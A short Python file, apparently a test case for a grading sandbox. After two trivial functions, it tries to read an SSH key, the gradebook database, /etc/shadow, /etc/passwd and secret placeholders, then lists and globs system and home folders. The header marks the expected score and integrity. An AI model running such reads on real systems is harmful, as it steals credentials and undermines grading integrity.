# what: gradebook, solutions, other submissions and the home folder
# score: 10
# integrity: ok
def scale(x, factor):
    return x * factor


def total(x):
    if not isinstance(x, np.ndarray):
        raise TypeError("an array is needed")
    return x.sum()

import glob
import os

for path in ("@SECRET@", "@HOME@/.ssh/id", "@HOME@/gradebook.db", "/etc/shadow", "/etc/passwd", "/root/.bashrc"):
    attempt(f"open {path}", lambda: print(open(path).read()))
    attempt(f"os.open {path}", lambda: print(os.read(os.open(path, os.O_RDONLY), 1000)))
for folder in ("@HOME@", "/root", "/home", "/etc", "/var", "/"):
    attempt(f"list {folder}", lambda: print(os.listdir(folder)))
for pattern in ("/work/*", "/home/*/*", "/root/.*", "@HOME@/*"):
    print(glob.glob(pattern))
